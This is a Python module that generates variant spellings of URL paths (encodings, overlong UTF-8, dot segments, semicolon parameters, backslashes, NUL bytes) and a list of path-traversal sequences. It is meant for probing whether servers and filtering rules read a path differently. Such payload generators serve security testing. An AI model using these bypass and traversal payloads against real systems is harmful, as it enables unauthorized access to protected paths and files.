"""Spellings of paths that some server takes for another path than the one that a rule names."""

import itertools
import random
from collections.abc import Callable, Iterator

#: How a path is written differently, each with a name. They work on `/admin`, `/admin/x` and longer ones.
SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda path: path,
    "upper case": str.upper,
    "first letter in upper case": lambda path: path[0] + path[1:2].upper() + path[2:],
    "last letter in upper case": lambda path: path[:-1] + path[-1:].upper(),
    "trailing slash": lambda path: path + "/",
    "two trailing slashes": lambda path: path + "//",
    "trailing dot segment": lambda path: path + "/.",
    "trailing dot": lambda path: path + ".",
    "trailing space": lambda path: path + "%20",
    "trailing tab": lambda path: path + "%09",
    "trailing line feed": lambda path: path + "%0A",
    "trailing NUL": lambda path: path + "%00",
    "NUL and a format": lambda path: path + "%00.html",
    "encoded trailing slash": lambda path: path + "%2F",
    "encoded question mark": lambda path: path + "%3Fx",
    "encoded hash": lambda path: path + "%23x",
    "query": lambda path: path + "?x=/public/",
    "format": lambda path: path + ".json",
    "two formats": lambda path: path + ".x.json",
    "format with a slash": lambda path: path + ".json/",
    "format in a parameter": lambda path: path + ";.json",
    "semicolon": lambda path: path + ";",
    "parameter": lambda path: path + ";x=1",
    "parameter of the first segment": lambda path: path.replace("/admin", "/admin;x=1", 1),
    "parameter with an encoded slash": lambda path: path.replace("/admin", "/admin;x=%2F", 1),
    "encoded parameter": lambda path: path.replace("/admin", "/admin%3Bx=1", 1),
    "session": lambda path: path.replace("/admin", "/admin;jsessionid=1", 1),
    "segment of a parameter alone": lambda path: "/;" + path,
    "segment of a parameter": lambda path: "/;x=1" + path,
    "two segments of parameters": lambda path: "/;/;x" + path,
    "empty first segment": lambda path: "/" + path,
    "empty first segments": lambda path: "///" + path,
    "empty segment": lambda path: path.replace("/admin/", "/admin//", 1),
    "dot segment": lambda path: "/." + path,
    "dot segment inside": lambda path: path.replace("/admin/", "/admin/./", 1),
    "folder and back": lambda path: "/x/.." + path,
    "folder and back, encoded dots": lambda path: "/x/%2e%2e" + path,
    "folder and back, one dot encoded": lambda path: "/x/.%2E" + path,
    "folder and back, encoded slash": lambda path: "/x/..%2F" + path[1:],
    "folder and back, all encoded": lambda path: "/x%2f%2e%2e%2f" + path[1:],
    "folder and back, encoded twice": lambda path: "/x/%252e%252e" + path,
    "folder and back, slash encoded twice": lambda path: "/x/..%252F" + path[1:],
    "folder and back, backslash": lambda path: "/x\\.." + path,
    "folder and back, encoded backslash": lambda path: "/x%5C..%5C" + path[1:],
    "folder and back, parameter": lambda path: "/x/..;" + path,
    "folder and back, parameter with a value": lambda path: "/x/..;x=1" + path,
    "folder and back, encoded parameter": lambda path: "/x/..%3B" + path,
    "folder and back, empty segment": lambda path: "/x//../.." + path,
    "folder and back, overlong": lambda path: "/x/%c0%ae%c0%ae" + path,
    "folder and back, overlong slash": lambda path: "/x/..%c0%af" + path[1:],
    "folder and back, dot behind": lambda path: "/x/.../.." + path,
    "out of the root": lambda path: "/.." + path,
    "out of the root, encoded slash": lambda path: "/..%2F" + path[1:],
    "encoded first slash": lambda path: "/%2F" + path[1:],
    "encoded slash": lambda path: path.replace("/admin/", "/admin%2F", 1),
    "slash encoded twice": lambda path: path.replace("/admin/", "/admin%252F", 1),
    "backslash": lambda path: path.replace("/admin/", "/admin\\", 1),
    "encoded backslash": lambda path: path.replace("/admin/", "/admin%5C", 1),
    "first slash a backslash": lambda path: "/\\" + path[1:],
    "first slash an encoded backslash": lambda path: "/%5C" + path[1:],
    "overlong slash": lambda path: path.replace("/admin/", "/admin%c0%af", 1),
    "overlong first slash": lambda path: "/%c0%af" + path[1:],
    "overlong slash of three bytes": lambda path: "/%e0%80%af" + path[1:],
    "overlong letter": lambda path: path.replace("a", "%c1%a1", 1),
    "encoded letter": lambda path: path.replace("a", "%61", 1),
    "encoded letters": lambda path: path.replace("admin", "%61%64%6D%69%6e", 1),
    "letter encoded twice": lambda path: path.replace("a", "%2561", 1),
    "letter encoded thrice": lambda path: path.replace("a", "%252561", 1),
    "letter as %u": lambda path: path.replace("a", "%u0061", 1),
    "letter of full width": lambda path: path.replace("a", "%EF%BD%81", 1),
    "dotless i": lambda path: path.replace("i", "%C4%B1", 1),
    "soft hyphen": lambda path: path.replace("d", "d%C2%AD", 1),
    "zero width space": lambda path: path.replace("d", "d%E2%80%8B", 1),
    "tab inside": lambda path: path.replace("d", "d%09", 1),
    "NUL inside": lambda path: path.replace("d", "d%00", 1),
    "authority": lambda path: "//x" + path,
    "authority with a port": lambda path: "//x:80" + path,
    "authority of a user": lambda path: "//a:b@x" + path,
    "authority behind a backslash": lambda path: "/\\x" + path,
    "authority, encoded": lambda path: "/%2Fx" + path,
    "authority of nothing": lambda path: "///x" + path,
    "scheme": lambda path: "/http://x" + path,
    "absolute form": lambda path: "http://{host}" + path,
    "absolute form with dots": lambda path: "http://{host}/x/.." + path,
    "space before": lambda path: "/%20" + path,
    "fragment": lambda path: path + "#/../public/x",
    "fragment before": lambda path: "/public/x#/.." + path,
}  # fmt: skip

#: Ways out of a folder: what leads from `/folder` up to its parent.
WAYS_UP = [
    "/..", "/../", "/..;", "/..;x=1", "/;/..", "/..//..", "/x/../..", "//..", "//../..", "/.%2e", "/%2e%2e", "/%2E.", "/..%2f",
    "/..%2F..", "/%2e%2e%2f", "%2f..", "%2f%2e%2e", "/..%5c", "/..%5C", "%5c..", "/..\\", "\\..", "/%252e%252e", "/..%252f",
    "/%25%32%65%2e", "/..%255c", "/%c0%ae%c0%ae", "/..%c0%af", "/..%c1%9c", "/.%00./", "/..%00", "/%00..", "/. ./", "/.%20./", "/..%20",
    "/%20..", "/..%09", "/.%09.", "/..%0d", "/..%0a", "/...", "/....//", "/.;/..", "/..;/;", "/..%3b", "/..%3Bx", "/x%2f..%2f..",
    "/x/..%2f..", "/.%2f..", "/./..", "/%u002e%u002e", "/%uff0e%uff0e", "/%ef%bc%8e%ef%bc%8e", "/%e2%80%a5", "/..%ef%bc%8f", "/..%e2%88%95",
    "/..#", "/..%23", "/..?", "/..%3f", "/%2e%2e;", "/%2e%2e%3b", "/..;%2f..", "/..;/..;", "/\u2025".encode().decode("latin-1"),
]  # fmt: skip


def spellings(path: str, count: int, seed: str) -> Iterator[tuple[str, str]]:
    """Each spelling of a path alone, then pairs of them by chance: what it is, and the path."""
    yield from _distinct(
        itertools.chain(((name, write(path)) for name, write in SPELLINGS.items()), _pairs(path, random.Random(seed))), count
    )


def _pairs(path: str, rng: random.Random) -> Iterator[tuple[str, str]]:
    while True:
        first, second = rng.sample(list(SPELLINGS), 2)
        yield f"{first}, {second}", SPELLINGS[second](SPELLINGS[first](path))


def out_of(folder: str, to: str, count: int, seed: str) -> Iterator[tuple[str, str]]:
    """Paths below a folder that may lead to another path."""
    single = ((up, folder + up + to) for up in WAYS_UP)
    slashed = ((up, folder + up + to.removeprefix("/")) for up in WAYS_UP)
    rng = random.Random(seed)
    yield from _distinct(itertools.chain(single, slashed, _climbs(folder, to, rng)), count)


def _climbs(folder: str, to: str, rng: random.Random) -> Iterator[tuple[str, str]]:
    while True:
        up = "".join(rng.choice(WAYS_UP) for _ in range(rng.choice((1, 2, 2, 3))))
        inner = rng.choice(("", "", "/x", "/x/y", "//", "/;", "/%2f"))
        name, path = rng.choice(list(SPELLINGS.items())) if rng.random() < 0.5 else ("", lambda path: path)
        target = path(to)
        yield f"{inner}{up} {name}", folder + inner + up + (target if rng.random() < 0.6 else target.removeprefix("/"))


def _distinct(found: Iterator[tuple[str, str]], count: int) -> Iterator[tuple[str, str]]:
    seen: set[str] = set()
    for name, path in found:
        if len(seen) >= count:
            return
        if path not in seen:
            seen.add(path)
            yield name, path
